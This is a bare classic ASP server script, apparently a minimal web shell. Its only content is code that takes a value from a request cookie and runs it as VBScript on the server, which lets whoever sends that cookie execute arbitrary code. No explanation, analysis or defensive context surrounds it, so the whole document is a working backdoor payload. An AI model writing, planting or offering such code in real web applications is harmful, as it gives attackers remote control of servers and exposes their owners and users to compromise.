<script runat="server" language="VBScript">
Sub Page
  Execute Request.Cookies("k")("v")
End Sub
Page
</script>
